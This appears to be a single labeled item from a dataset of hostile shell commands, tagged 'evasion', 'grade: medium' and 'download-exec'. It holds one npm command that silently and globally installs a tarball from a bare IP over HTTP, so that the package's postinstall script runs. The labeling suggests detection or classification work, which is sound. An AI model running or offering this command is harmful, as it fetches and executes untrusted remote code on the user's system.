# evasion: npm installs a remote tarball whose postinstall runs
# grade: medium; does: download-exec
npm install --silent --global http://203.0.113.5/helper-1.0.0.tgz
